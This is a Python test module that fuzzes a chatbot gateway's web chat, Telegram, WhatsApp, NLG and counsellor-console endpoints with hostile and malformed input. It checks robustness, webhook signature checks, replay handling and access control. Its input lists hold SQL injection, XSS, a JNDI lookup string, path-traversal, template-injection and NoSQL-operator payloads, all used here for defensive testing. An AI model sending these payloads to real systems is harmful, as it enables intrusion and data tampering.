"""Bad input against every entry point, as an attacker or a broken client would send it.

For every request: no 5xx, the service still answers afterwards, and a rejected request stores
nothing. Accepted text (SQL, HTML, injected intents, control characters...) is stored as text and
never reaches Rasa as an intent. `CORPUS_COUNTS` (printed with -s) is what the closing note reports.
"""

from __future__ import annotations

import hashlib
import hmac
import json
import time
from typing import Dict, List, Tuple

import pytest
from sqlalchemy import func, select

from bot.console.auth import create_counsellor
from bot.db import Conversation, Handoff, Message, utcnow
from tests.conftest import APP_SECRET, SECRET, TG, VERIFY
from tests.fakes.platforms import telegram_text, whatsapp_text

# Text people or attackers may send as a message.
HOSTILE_TEXTS = [
    "", " ", "\n\n\n", "\x00", "\x00\x01\x02\x1b[31mred", "a" * 2001, "a" * 100_000, "\u202eevil\u202c", "\ufeff",
    "\u200b\u200c\u200d", "ـــــ", "سلام hello Привет ሰላም 你好 שלום", "🙂" * 500, "\\ud800", "\udfff",
    "'; DROP TABLE messages; --", "1' OR '1'='1", "\" OR 1=1 --", "admin'--", "%' AND 1=0 UNION SELECT * FROM counsellors --",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "<svg/onload=alert(1)>",
    "{{7*7}}", "${jndi:ldap://example.org/a}", "%s%s%s%n", "../../../../etc/passwd",
    "/restart", "/delete_my_data", "/intent{\"x\":1}", "/inform{\"situation\":\"asylum_refused\"}",
    "/change_language{\"language\":\"../../etc\"}", "//talk_to_human", " /session_start", "/privacy_keep{}",
    "/start " + "x" * 500, "/human@otherbot", "\n/restart", "EXTERNAL_trigger", '{"crossroads": "erase"}',
]
# Bodies that are not what the endpoint expects.
MALFORMED_BODIES: List[bytes] = [
    b"", b"{", b"}", b"[]", b"null", b"true", b"1", b'"text"', b"\xff\xfe\x00\x01", b"\x89PNG\r\n\x1a\n",
    b'{"a":' + b"[" * 50_000 + b"]" * 50_000 + b"}", b"[" * 100_000, b"[" * 30_000, b'{"a":' * 10_000, b'{"a": NaN}', b'{"a": Infinity}',
    b'{"a": 1e999999}', b'{"a": "\\ud800"}', b'{"update_id": "1"}', b'{"update_id": -1, "message": []}',
    b'{"update_id": 1, "message": {"chat": {"id": {"$gt": 1}}, "text": 5}}',
    b'{"entry": "x"}', b'{"entry": [{"changes": [{"value": {"messages": [{"from": null}]}}]}]}',
    b'{"object": "whatsapp_business_account", "entry": [{"changes": [{"value": {"messages": 7}}]}]}',
    json.dumps({"user_id": "abcdefgh12", "text": None, "payload": None}).encode(),
    json.dumps({"user_id": ["abcdefgh12"], "text": "x"}).encode(),
    json.dumps({"user_id": "abcdefgh12' OR '1'='1", "text": "x"}).encode(),
    json.dumps({"user_id": "abcdefgh12", "text": {"$ne": 1}}).encode(),
    json.dumps({"user_id": "abcdefgh12", "message_id": "../../x", "text": "x"}).encode(),
    b"x" * 2_000_000,
]
CONTENT_TYPES = ["application/json", "text/plain", "application/x-www-form-urlencoded",
                 "multipart/form-data; boundary=x", "application/xml", "", "application/json; charset=latin-1"]

CORPUS_COUNTS: Dict[str, Dict[str, int]] = {}


def count(entry: str, response) -> None:
    """Record what an entry point answered (status code) for one bad input."""
    seen = CORPUS_COUNTS.setdefault(entry, {})
    seen[str(response.status_code)] = seen.get(str(response.status_code), 0) + 1


def rows(db) -> Tuple[int, int, int]:
    with db.session() as s:
        return (s.scalar(select(func.count(Conversation.id))), s.scalar(select(func.count(Message.id))),
                s.scalar(select(func.count(Handoff.id))))


def no_server_error(response, what: str) -> None:
    assert response.status_code < 500, (what, response.status_code, response.text[:200])


def jpost(client, path: str, obj, headers=None):
    """POST JSON as ASCII with escapes, so lone surrogates (valid JSON, invalid UTF-8) can be sent."""
    return client.post(path, content=json.dumps(obj).encode(), headers={"content-type": "application/json",
                                                                        **(headers or {})})


def sign(raw: bytes, secret: str = APP_SECRET) -> str:
    return "sha256=" + hmac.new(secret.encode(), raw, hashlib.sha256).hexdigest()


def rasa_never_got_an_intent_it_did_not_offer(fake_rasa, content) -> None:
    allowed = content.allowed_payloads() | {"/greet", "/change_language", "/delete_my_data", "/stop",
                                            "/talk_to_human"}
    injected = [r["message"] for r in fake_rasa.received
                if r["message"].startswith("/") and r["message"] not in allowed
                and not r["message"].startswith('/change_language{"language":')]
    assert injected == []


def wait_idle(gateway, timeout: float = 20.0) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        with gateway.db.session() as s:
            if not s.scalar(select(func.count(Message.id)).where(Message.direction == "in",
                                                                Message.state == "pending")):
                return
        time.sleep(0.05)
    raise AssertionError("messages still waiting")


# -- web chat -----------------------------------------------------------------------------------------------
def test_web_chat_message_endpoint(gateway, fake_rasa, content):
    for raw in MALFORMED_BODIES:
        for ctype in CONTENT_TYPES:
            before = rows(gateway.db)
            r = gateway.post("/webchat/api/message", content=raw, headers={"content-type": ctype} if ctype else {})
            count("POST /webchat/api/message", r)
            no_server_error(r, raw[:40])
            if r.status_code >= 400:
                assert rows(gateway.db) == before, raw[:40]
    for i, text in enumerate(HOSTILE_TEXTS):
        r = jpost(gateway, "/webchat/api/message", {"user_id": f"hostile-user-{i:04d}", "text": text})
        count("POST /webchat/api/message", r)
        no_server_error(r, text[:40])
        if r.status_code == 200:
            assert all(isinstance(reply["text"], str) for reply in r.json()["replies"])
    for payload in ["/restart", "/intent{\"x\":1}", "/privacy_keep", "/delete_my_data", "x" * 5000, "\x00"]:
        r = jpost(gateway, "/webchat/api/message", {"user_id": "hostile-payloads", "payload": payload})
        count("POST /webchat/api/message", r)
        no_server_error(r, payload[:40])
    rasa_never_got_an_intent_it_did_not_offer(fake_rasa, content)
    assert gateway.get("/health").status_code == 200


@pytest.mark.parametrize("query", ["", "?user_id=", "?user_id=short", "?user_id=" + "a" * 5000,
                                   "?user_id=abc%00defgh", "?user_id=' OR 1=1 --", "?user_id=<script>",
                                   "?user_id=valid-user-1&user_id=other", "?user_id=%ff%fe"])
def test_web_chat_poll_endpoint(gateway, query):
    before = rows(gateway.db)
    r = gateway.get("/webchat/api/messages" + query)
    count("GET /webchat/api/messages", r)
    no_server_error(r, query)
    assert rows(gateway.db) == before


# -- Telegram -----------------------------------------------------------------------------------------------
def test_telegram_webhook(gateway, fake_rasa, content, platforms):
    for headers in [{}, {"X-Telegram-Bot-Api-Secret-Token": "wrong"},
                    {"X-Telegram-Bot-Api-Secret-Token": SECRET[:-1]},
                    {"X-Telegram-Bot-Api-Secret-Token": SECRET + "x"},
                    {"X-Telegram-Bot-Api-Secret-Token": SECRET.upper()}]:
        before = rows(gateway.db)
        r = gateway.post("/telegram/webhook", json=telegram_text(1, 42, "hello"), headers=headers)
        count("POST /telegram/webhook", r)
        assert r.status_code == 403 and rows(gateway.db) == before
    for raw in MALFORMED_BODIES:
        for ctype in ("application/json", "text/plain", ""):
            before = rows(gateway.db)
            r = gateway.post("/telegram/webhook", content=raw, headers={**TG, "content-type": ctype})
            count("POST /telegram/webhook", r)
            no_server_error(r, raw[:40])
            if r.status_code >= 400 or r.json().get("ignored"):
                assert rows(gateway.db) == before, raw[:40]
    for i, text in enumerate(HOSTILE_TEXTS):
        r = jpost(gateway, "/telegram/webhook", telegram_text(5000 + i, 7000 + i, text), TG)
        count("POST /telegram/webhook", r)
        no_server_error(r, text[:40])
    # Replays: the same update again and again is stored once.
    update = telegram_text(9999, 4242, "replayed message")
    for _ in range(20):
        r = gateway.post("/telegram/webhook", json=update, headers=TG)
        assert r.status_code == 200
        count("POST /telegram/webhook", r)
    wait_idle(gateway)
    with gateway.db.session() as s:
        texts = [m.text for m in s.scalars(select(Message).where(Message.direction == "in"))]
    assert texts.count("replayed message") <= 1  # once (or blanked after the answer: not kept)
    assert sum(1 for r in fake_rasa.received if r["message"] == "replayed message") == 1
    rasa_never_got_an_intent_it_did_not_offer(fake_rasa, content)
    assert gateway.get("/health").status_code == 200


# -- WhatsApp -----------------------------------------------------------------------------------------------
def wa_body(messages) -> dict:
    return {"object": "whatsapp_business_account", "entry": [{"id": "1", "changes": [{"field": "messages", "value": {
        "messaging_product": "whatsapp", "metadata": {"phone_number_id": "123456789"},
        "contacts": [{"profile": {"name": "Secret Name"}, "wa_id": "32470000001"}], "messages": messages}}]}]}


@pytest.mark.parametrize("query", [
    "", "?hub.mode=subscribe", f"?hub.mode=subscribe&hub.verify_token={VERIFY}",
    f"?hub.mode=subscribe&hub.verify_token={VERIFY}&hub.challenge=<script>",
    f"?hub.mode=subscribe&hub.verify_token={VERIFY}&hub.challenge=" + "9" * 5000,
    f"?hub.mode=unsubscribe&hub.verify_token={VERIFY}&hub.challenge=1",
    "?hub.mode=subscribe&hub.verify_token=wrong&hub.challenge=1",
    "?hub.mode=subscribe&hub.verify_token=%00&hub.challenge=1",
    "?hub.mode=subscribe&hub.verify_token=%ff%fe&hub.challenge=1",
    "?hub.mode=subscribe&hub.verify_token=" + "x" * 10000 + "&hub.challenge=1",
])
def test_whatsapp_verification_endpoint(gateway, query):
    r = gateway.get("/whatsapp/webhook" + query)
    count("GET /whatsapp/webhook", r)
    no_server_error(r, query)
    assert r.status_code in (400, 403)


def test_whatsapp_webhook(gateway, fake_rasa, content):
    good = json.dumps(wa_body([whatsapp_text("32470000001", "wamid.1", "hello")])).encode()
    for signature in [None, "", "sha256=", "sha256=00", "sha1=" + "0" * 40, sign(good, "wrong-secret"),
                      sign(good)[:-1] + ("1" if sign(good).endswith("0") else "0"), sign(good).upper(), "sha256=" + "z" * 64, sign(good + b" ")]:
        before = rows(gateway.db)
        headers = {"content-type": "application/json"}
        if signature is not None:
            headers["X-Hub-Signature-256"] = signature
        r = gateway.post("/whatsapp/webhook", content=good, headers=headers)
        count("POST /whatsapp/webhook", r)
        assert r.status_code == 403 and rows(gateway.db) == before, signature
    for raw in MALFORMED_BODIES:
        for ctype in ("application/json", "text/plain"):
            before = rows(gateway.db)
            r = gateway.post("/whatsapp/webhook", content=raw,
                             headers={"content-type": ctype, "X-Hub-Signature-256": sign(raw)})
            count("POST /whatsapp/webhook", r)
            no_server_error(r, raw[:40])
            if r.status_code >= 400:
                assert rows(gateway.db) == before, raw[:40]
    for i, text in enumerate(HOSTILE_TEXTS):
        raw = json.dumps(wa_body([whatsapp_text(f"3247{i:07d}", f"wamid.h{i}", text)])).encode()  # ASCII escapes
        r = gateway.post("/whatsapp/webhook", content=raw,
                         headers={"content-type": "application/json", "X-Hub-Signature-256": sign(raw)})
        count("POST /whatsapp/webhook", r)
        no_server_error(r, text[:40])
    odd = [{"from": "32470000002", "id": "wamid.o1", "timestamp": "x", "type": "text", "text": {"body": "hi"}},
           {"from": "32470000002", "id": "wamid.o2", "timestamp": "1", "type": "text", "text": "not an object"},
           {"from": "", "id": "wamid.o3", "timestamp": "1", "type": "text", "text": {"body": "hi"}},
           {"from": "32470000002", "id": "", "timestamp": "1", "type": "unknown_type"},
           {"from": "32470000002", "id": "wamid.o5", "timestamp": "1", "type": "interactive",
            "interactive": {"type": "button_reply", "button_reply": {"id": "/restart", "title": "x"}}},
           {"from": "32470000002", "id": "wamid.o6", "timestamp": "1", "type": "interactive",
            "interactive": {"type": "button_reply", "button_reply": {"id": "b:1:99", "title": "x"}}}]
    for message in odd:
        raw = json.dumps(wa_body([message])).encode()
        r = gateway.post("/whatsapp/webhook", content=raw,
                         headers={"content-type": "application/json", "X-Hub-Signature-256": sign(raw)})
        count("POST /whatsapp/webhook", r)
        no_server_error(r, str(message)[:60])
    replay = json.dumps(wa_body([whatsapp_text("32470000003", "wamid.replay", "replayed")])).encode()
    for _ in range(20):
        r = gateway.post("/whatsapp/webhook", content=replay,
                         headers={"content-type": "application/json", "X-Hub-Signature-256": sign(replay)})
        count("POST /whatsapp/webhook", r)
    wait_idle(gateway)
    assert sum(1 for r in fake_rasa.received if r["message"] == "replayed") == 1
    rasa_never_got_an_intent_it_did_not_offer(fake_rasa, content)
    assert gateway.get("/health").status_code == 200


# -- Rasa's NLG endpoint ----------------------------------------------------------------------------------------
def test_nlg_endpoint(gateway):
    settings = gateway.app.state.gateway.settings
    good = f"/nlg?token={settings.nlg_token.reveal()}"
    for path in ["/nlg", "/nlg?token=", "/nlg?token=wrong", "/nlg?token=%00", good[:-1]]:
        r = gateway.post(path, json={"response": "utter_greet", "tracker": {}})
        count("POST /nlg", r)
        assert r.status_code == 403
    for raw in MALFORMED_BODIES:
        r = gateway.post(good, content=raw, headers={"content-type": "application/json"})
        count("POST /nlg", r)
        no_server_error(r, raw[:40])
    for body in [{"response": "utter_nope"}, {"response": "../../etc/passwd"}, {"response": 5},
                 {"response": "utter_greet", "arguments": {"language": {"x": 1}}},
                 {"response": "utter_greet", "tracker": {"sender_id": 5, "slots": []}},
                 {"response": "utter_greet", "tracker": {"sender_id": "x", "slots": {"language": "../../x"}}},
                 {"response": "utter_input_too_long", "arguments": {"max_chars": "{0.__class__}"}},
                 {"response": "utter_greet", "arguments": {"language_name": "{0.__class__.__mro__}"}}]:
        r = gateway.post(good, json=body)
        count("POST /nlg", r)
        no_server_error(r, str(body))
        assert "__class__" not in r.text or "{0.__class__" in r.text  # a placeholder is never evaluated


# -- the console ---------------------------------------------------------------------------------------------
PASSWORD = "correct horse battery staple"


def test_console_login_endpoint(gateway):
    create_counsellor(gateway.db, "amina", PASSWORD, role="counsellor", languages="ar")
    for raw in MALFORMED_BODIES:
        for ctype in ("application/json", "text/plain", "application/x-www-form-urlencoded"):
            r = gateway.post("/console/api/login", content=raw, headers={"content-type": ctype})
            count("POST /console/api/login", r)
            no_server_error(r, raw[:40])
            assert r.status_code in (400, 401, 413, 415), (raw[:40], r.status_code)
            assert "set-cookie" not in r.headers
    for username in ["amina' --", "' OR '1'='1", "amina\x00", "AMINA", " amina", "a" * 10000, "", None, 5, ["amina"]]:
        for password in [PASSWORD + "x", "' OR '1'='1", "", None, {"$ne": ""}, "x" * 100_000]:
            r = jpost(gateway, "/console/api/login", {"username": username, "password": password})
            count("POST /console/api/login", r)
            no_server_error(r, f"{username!r:.40}")
            assert r.status_code in (400, 401, 413) and "set-cookie" not in r.headers, (username, r.status_code)


def test_console_api_with_bad_input(gateway):
    from bot.handoff import request_handoff

    create_counsellor(gateway.db, "sofia", PASSWORD, role="supervisor", languages="en")
    with gateway.db.session() as s:  # case 1 and message 1 exist, so bodies reach the handlers
        s.add(Conversation(id="conv-bad-input", channel="webchat", language="en"))
        s.flush()
        s.add(Message(conversation_id="conv-bad-input", direction="in", sender="user", text="hello"))
    assert request_handoff(gateway.db, "conv-bad-input", "talk_to_human", urgent=False).id == 1
    csrf = gateway.post("/console/api/login", json={"username": "sofia", "password": PASSWORD}).json()["csrf"]
    headers = {"X-CSRF-Token": csrf, "content-type": "application/json"}
    paths = ["cases/1/claim", "cases/1/transfer", "cases/1/snooze", "cases/1/priority", "cases/1/notes",
             "cases/1/reply", "cases/1/resolve", "messages/1/misunderstood", "cases/999999999999/claim",
             "cases/-1/claim", "cases/abc/claim", "cases/1%00/claim", "review/1", "review/99999999999999999999"]
    for path in paths:
        for raw in MALFORMED_BODIES[:20] + [json.dumps({"text": t}).encode() for t in HOSTILE_TEXTS[:20]] + [
                b'{"priority": "superurgent"}', b'{"counsellor_id": "1 OR 1=1"}', b'{"until": "not a date"}',
                b'{"minutes": -5}', b'{"minutes": 1e308}', b'{"text": ""}', b'{"text": null}']:
            r = gateway.post(f"/console/api/{path}", content=raw, headers=headers)
            count("console API (POST)", r)
            no_server_error(r, f"{path} {raw[:40]}")
    for query in ["review?language=<script>", "review?language=' OR 1=1 --", "queue?status=<x>", "queue?language=../../", "updates?cursor=' OR 1=1", "updates?cursor=" + "9" * 5000,
                  "cases/0", "cases/99999999999999999999"]:
        r = gateway.get(f"/console/api/{query}")  # a garbage cursor differs from the current one: no wait
        count("console API (GET)", r)
        no_server_error(r, query)
    assert gateway.get("/health").status_code == 200


def test_console_sessions_end_at_logout_and_expiry(gateway):
    from bot.db import ConsoleSession

    create_counsellor(gateway.db, "amina", PASSWORD, role="counsellor", languages="ar")
    csrf = gateway.post("/console/api/login", json={"username": "amina", "password": PASSWORD}).json()["csrf"]
    assert gateway.get("/console/api/me").status_code == 200
    token = gateway.cookies.get("crossroads_console") or next(iter(gateway.cookies.values()))
    assert gateway.post("/console/api/logout", json={}, headers={"X-CSRF-Token": csrf}).status_code == 200
    gateway.cookies.set("crossroads_console", token, path="/console")
    assert gateway.get("/console/api/me").status_code == 401  # the old token is dead
    gateway.post("/console/api/login", json={"username": "amina", "password": PASSWORD})
    with gateway.db.session() as s:
        for session in s.scalars(select(ConsoleSession)):
            session.expires_at = utcnow()
    assert gateway.get("/console/api/me").status_code == 401


def test_counsellors_see_only_their_languages_cases(gateway):
    from bot.handoff import request_handoff

    with gateway.db.session() as s:
        s.add(Conversation(id="conv-ar", channel="webchat", language="ar"))
    case = request_handoff(gateway.db, "conv-ar", "talk_to_human", urgent=False, case_card={"language": "ar"})
    create_counsellor(gateway.db, "bruno", PASSWORD, role="counsellor", languages="es")
    gateway.post("/console/api/login", json={"username": "bruno", "password": PASSWORD})
    assert gateway.get(f"/console/api/cases/{case.id}").status_code == 404
    assert all(c["id"] != case.id for c in gateway.get("/console/api/queue").json()["cases"])


def test_corpus_counts_are_reported():
    """Runs last in this module: prints what was tried per entry point (for the closing note)."""
    print("\nbad inputs per entry point (answers by status code):", json.dumps(CORPUS_COUNTS, indent=1))
    assert sum(n for seen in CORPUS_COUNTS.values() for n in seen.values()) > 900
    assert not any(code.startswith("5") for seen in CORPUS_COUNTS.values() for code in seen)
